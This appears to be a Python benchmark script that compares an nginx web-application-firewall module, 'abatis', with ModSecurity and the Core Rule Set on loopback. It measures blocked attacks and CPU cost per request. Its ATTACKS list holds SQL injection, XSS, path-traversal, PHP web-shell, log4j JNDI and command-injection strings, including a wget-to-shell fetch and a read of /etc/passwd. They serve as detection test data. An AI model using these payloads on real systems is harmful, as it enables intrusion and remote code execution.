#!/usr/bin/env python3
"""The module beside ModSecurity with the Core Rule Set, on loopback: `peers.py MODULE.so [--record FILE]`. `cargo xtask peers nginx` builds the
module as it is shipped and runs this.

Needs nginx-core, libnginx-mod-http-modsecurity, modsecurity-crs, wrk and curl. What counts is the CPU time of the one worker
per request, from /proc, which does not depend on what else the machine does; answers are checked before times are taken.
"""

import argparse
import json
import os
import platform
import signal
import statistics
import subprocess
import sys
import tempfile
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import curl, free_ports  # noqa: E402

MODSECURITY = "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so"
CRS = "/usr/share/modsecurity-crs/rules"

BROWSER = {
    "Host": "shop.example",
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.9",
    "Accept-Encoding": "gzip, deflate, br",
    "Referer": "https://shop.example/catalogue?page=2",
    "Cookie": "sid=8f14e45fceea167a5a36dedd4bea2543; theme=dark",
}
ORDER = json.dumps({"order": [{"id": i, "name": f"customer number {i}", "email": f"user{i}@example.com", "qty": i * 3} for i in range(1, 13)],
                    "note": "please deliver on Tuesday, or leave it with the neighbours at number 12"})

ATTACKS = [
    ("sqli", "1' or '1'='1"),
    ("sqli", "1 union select user, password from users-- "),
    ("sqli", "1'; drop table users-- "),
    ("sqli", "1' and sleep(5)#"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "<svg/onload=alert(document.cookie)>"),
    ("cmdi", "127.0.0.1; cat /etc/passwd"),
    ("cmdi", "$(wget http://files.example/x.sh -O- | sh)"),
    ("lfi", "../../../../etc/passwd"),
    ("rce-code", "<?php system($_GET['c']); ?>"),
    ("log4j", "${jndi:ldap://files.example/a}"),
]

COMMON = """\
worker_processes 1; {user} daemon off;
pid {dir}/{name}.pid; error_log {dir}/{name}.log crit;
events {{ worker_connections 1024; }}
"""

SERVER = """\
http {{
  client_body_temp_path {dir}/tmp/{name}b; proxy_temp_path {dir}/tmp/{name}p; fastcgi_temp_path {dir}/tmp/{name}f;
  uwsgi_temp_path {dir}/tmp/{name}u; scgi_temp_path {dir}/tmp/{name}s;
  access_log off; client_body_buffer_size 16k; keepalive_requests 100000000; types {{ text/html html; }}
  upstream up {{ server 127.0.0.1:{up}; keepalive 32; keepalive_requests 100000000; }}
  server {{
    listen 127.0.0.1:{port}; root {dir}/html; proxy_http_version 1.1; proxy_set_header Connection "";
    location /off/ {{ alias {dir}/html/; }}
    location /on/ {{ alias {dir}/html/; {on} }}
    location /apioff/ {{ proxy_pass http://up; }}
    location /api/ {{ proxy_pass http://up; {on} }}
  }}
}}
"""

UPSTREAM = """\
http {{
  client_body_temp_path {dir}/tmp/ub; proxy_temp_path {dir}/tmp/up; fastcgi_temp_path {dir}/tmp/uf;
  uwsgi_temp_path {dir}/tmp/uu; scgi_temp_path {dir}/tmp/us;
  access_log off; keepalive_requests 100000000;
  server {{ listen 127.0.0.1:{up}; location / {{ return 200 "ok\\n"; }} }}
}}
"""

# What Debian's example says for an API: JSON and XML bodies are parsed, nothing is audited, answers are not read.
RULES = """\
SecRuleEngine On
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "(?:application(?:/soap\\+|/)|text/)xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRequestBodyLimit 13107200
SecRequestBodyNoFilesLimit 1048576
SecResponseBodyAccess Off
SecAuditEngine Off
SecPcreMatchLimit 100000
SecPcreMatchLimitRecursion 100000
SecUnicodeMapFile /etc/nginx/unicode.mapping 20127
Include /etc/modsecurity/crs/crs-setup.conf
Include {crs}/*.conf
"""


class Server:
    def __init__(self, folder, name, text):
        path = f"{folder}/{name}.conf"
        with open(path, "w") as file:
            file.write(text)
        self.process = subprocess.Popen(["nginx", "-p", folder, "-c", path, "-e", f"{folder}/{name}.log"])
        for _ in range(200):
            time.sleep(0.05)
            with open(f"/proc/{self.process.pid}/task/{self.process.pid}/children") as file:
                children = file.read().split()
            if children:
                self.worker = int(children[0])
                return
        sys.exit(f"{name} does not start: {open(f'{folder}/{name}.log').read()}")

    def cpu(self):
        """Seconds of CPU of the worker: in microseconds, where /proc/PID/stat has hundredths of seconds."""
        with open(f"/proc/{self.worker}/schedstat") as file:
            return int(file.read().split()[0]) / 1e9

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        self.process.wait(10)


def wrk(url, folder, method="GET", body="", seconds=3.0):
    """Requests that were answered, those of them with another status than 2xx, requests per second."""
    script = f"{folder}/{method}.lua"
    headers = dict(BROWSER)
    if body:
        headers |= {"Content-Type": "application/json", "Accept": "application/json"}
    with open(script, "w") as file:
        file.write(f'wrk.method = "{method}"\nwrk.body = [==[{body}]==]\n' if body else f'wrk.method = "{method}"\n')
        for name, value in headers.items():
            file.write(f'wrk.headers["{name}"] = [==[{value}]==]\n')
        file.write('done = function(s, l, r) io.write("RESULT ", s.requests, " ", s.errors.status, " ", s.duration, "\\n") end\n')
    said = subprocess.run(["wrk", "-t1", "-c8", f"-d{seconds:.0f}s", "-s", script, url], capture_output=True, text=True)
    line = [line for line in said.stdout.splitlines() if line.startswith("RESULT ")]
    if not line:
        sys.exit(f"wrk: {said.stdout}{said.stderr}")
    requests, errors, microseconds = map(int, line[0].split()[1:])
    return requests, errors, requests / (microseconds / 1e6)


def answers(base):
    """How many attacks each place stops, and what of the ordinary is stopped too."""
    headers = [word for name, value in BROWSER.items() for word in ("-H", f"{name}: {value}")]
    js = ["-H", "Content-Type: application/json"]
    result = {}
    for number, (kind, value) in enumerate(ATTACKS):
        quoted = urllib.parse.quote(value, safe="")
        result[kind, number, "query"] = curl(f"{base}/on/index.html?id={quoted}", *headers)[0]
        result[kind, number, "json"] = curl(f"{base}/api/x", *headers, *js, data=json.dumps({"id": value}).encode())[0]
    ordinary = [
        curl(f"{base}/on/index.html", *headers)[0],
        curl(f"{base}/on/index.html?q=green+tea&page=2", *headers)[0],
        curl(f"{base}/api/x", *headers, *js, data=ORDER.encode())[0],
    ]
    return result, ordinary


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("module")
    parser.add_argument("--record", help="write the table to this file")
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--seconds", type=float, default=3)
    options = parser.parse_args()
    for path, package in ((MODSECURITY, "libnginx-mod-http-modsecurity"), (CRS, "modsecurity-crs"), ("/usr/bin/wrk", "wrk")):
        if not os.path.exists(path):
            sys.exit(f"{package} is missing: apt-get install libnginx-mod-http-modsecurity modsecurity-crs wrk")

    with tempfile.TemporaryDirectory(prefix="abatis-peers-") as folder:
        os.chmod(folder, 0o755)
        os.mkdir(f"{folder}/html")
        os.mkdir(f"{folder}/tmp")
        os.chmod(f"{folder}/tmp", 0o777)
        with open(f"{folder}/html/index.html", "w") as file:
            file.write("<p>hello</p>\n" * 50)
        with open(f"{folder}/rules.conf", "w") as file:
            file.write(RULES.format(crs=CRS))
        up, first, second = free_ports(3)
        user = "user root;" if os.geteuid() == 0 else ""
        common = {"dir": folder, "user": user, "up": up}
        servers = [Server(folder, "up", COMMON.format(name="up", **common) + UPSTREAM.format(**common))]
        try:
            for name, module, port, on in (
                ("abatis", os.path.abspath(options.module), first, "abatis on;"),
                ("modsecurity", MODSECURITY, second, f"modsecurity on; modsecurity_rules_file {folder}/rules.conf;"),
            ):
                text = f"load_module {module};\n" + COMMON.format(name=name, **common) + SERVER.format(name=name, port=port, on=on, **common)
                servers.append(Server(folder, name, text))
            run(options, folder, servers, (first, second))
        finally:
            for server in servers:
                server.stop()


def run(options, folder, servers, ports):
    bases = {"abatis": f"http://127.0.0.1:{ports[0]}", "ModSecurity": f"http://127.0.0.1:{ports[1]}"}
    worker = {"abatis": servers[1], "ModSecurity": servers[2]}
    lines, failed = [], False
    say = lambda text="": (print(text, flush=True), lines.append(text))

    say("## Answers\n\n| | attacks in the query | attacks in JSON | ordinary requests blocked |\n|---|---:|---:|---:|")
    blocked = {}
    for name, base in bases.items():
        result, ordinary = answers(base)
        blocked[name] = {key for key, status in result.items() if status == 403}
        of = {place: sum(key[2] == place for key in blocked[name]) for place in ("query", "json")}
        say(f"| {name} | {of['query']} of {len(ATTACKS)} | {of['json']} of {len(ATTACKS)} | {sum(s != 200 for s in ordinary)} of {len(ordinary)} |")
        failed |= any(status != 200 for status in ordinary)
        missed = set(result) - blocked[name]
        if missed:
            print(f"{name} lets pass: {sorted((place, ATTACKS[number][1]) for _, number, place in missed)}")
    if blocked["ModSecurity"] - blocked["abatis"]:
        failed = True

    cases = [
        ("GET static", "off", "abatis", "/off/index.html", "GET", ""),
        ("GET static", "abatis", "abatis", "/on/index.html", "GET", ""),
        ("GET static", "ModSecurity", "ModSecurity", "/on/index.html", "GET", ""),
        (f"POST JSON {len(ORDER)} B, proxied", "off", "abatis", "/apioff/x", "POST", ORDER),
        (f"POST JSON {len(ORDER)} B, proxied", "abatis", "abatis", "/api/x", "POST", ORDER),
        (f"POST JSON {len(ORDER)} B, proxied", "ModSecurity", "ModSecurity", "/api/x", "POST", ORDER),
    ]
    figures = {case[:2]: [] for case in cases}
    for round_ in range(options.rounds + 1):
        for what, module, name, path, method, body in cases:
            before = worker[name].cpu()
            requests, errors, rate = wrk(bases[name] + path, folder, method, body, options.seconds if round_ else 1)
            spent = worker[name].cpu() - before
            if errors:
                sys.exit(f"{what}, {module}: {errors} of {requests} answers are not 2xx")
            if round_:  # the first one warms up
                figures[what, module].append((spent / requests * 1e6, rate))

    say("\n## CPU of the worker per request\n\n| | module | us | from | to | added us | requests/s, both cores |\n|---|---|---:|---:|---:|---:|---:|")
    added = {}
    for (what, module), seen in figures.items():
        times = [time_ for time_, _ in seen]
        median = statistics.median(times)
        off = statistics.median(time_ for time_, _ in figures[what, "off"])
        added[what, module] = median - off
        say(f"| {what} | {module} | {median:.1f} | {min(times):.1f} | {max(times):.1f} | {median - off:.1f} | "
            f"{statistics.median(rate for _, rate in seen):,.0f} |")
    say()
    for what in dict.fromkeys(what for what, _ in added):
        ours, theirs = added[what, "abatis"], added[what, "ModSecurity"]
        say(f"{what}: ModSecurity adds {theirs:,.0f} us, abatis {ours:.1f} us, 1/{theirs / max(ours, 0.1):,.0f} of it.")

    if options.record:
        version = lambda package: subprocess.run(["dpkg-query", "-W", "-f", "${Version}", package], capture_output=True, text=True).stdout
        packages = ("nginx-core", "libnginx-mod-http-modsecurity", "libmodsecurity3", "modsecurity-crs", "wrk")
        model = next((line.split(":", 1)[1].strip() for line in open("/proc/cpuinfo") if line.startswith("model name")), "unknown")
        with open(options.record, "w") as file:
            file.write("# In nginx, beside ModSecurity\n\n"
                       f"`cargo xtask peers nginx`: {time.strftime('%Y-%m-%d')}, {os.cpu_count()} cores of {model}, Linux {platform.release().split('-')[0]}, Debian's "
                       + ", ".join(f"{package} {version(package)}" for package in packages)
                       + f".\nOne worker, keep-alive, `wrk -t1 -c8`, {options.rounds} rounds of {options.seconds:g} s each in turn, medians. CPU is that "
                       "of the worker alone.\nabatis with its default policy, bodies buffered; ModSecurity with the Core Rule Set at paranoia level 1, audit and response bodies off.\n\n")
            file.write("\n".join(lines) + "\n")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
